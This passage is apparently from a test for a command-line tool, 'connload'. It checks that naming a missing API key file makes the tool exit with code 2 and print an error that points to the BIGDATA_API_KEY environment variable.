    desk(1)
    run = connload("create", "desk.csv", "--api-key-file", "nokey")
    assert (run.rc, run.err) == (2, "connload: --api-key-file nokey: No such file or directory; name the file that holds the key, "
                                    "or set BIGDATA_API_KEY instead\n")
